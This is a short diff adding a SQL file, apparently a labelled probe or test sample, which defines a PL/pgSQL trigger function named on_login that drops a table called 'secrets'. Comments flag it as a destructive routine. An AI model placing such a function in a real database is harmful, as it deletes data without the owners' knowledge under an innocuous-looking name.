@@ -1,0 +1,3 @@
+-- warning: destructive-routine
+-- probe
+CREATE FUNCTION on_login() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DROP TABLE IF EXISTS secrets; RETURN NEW; END $$;
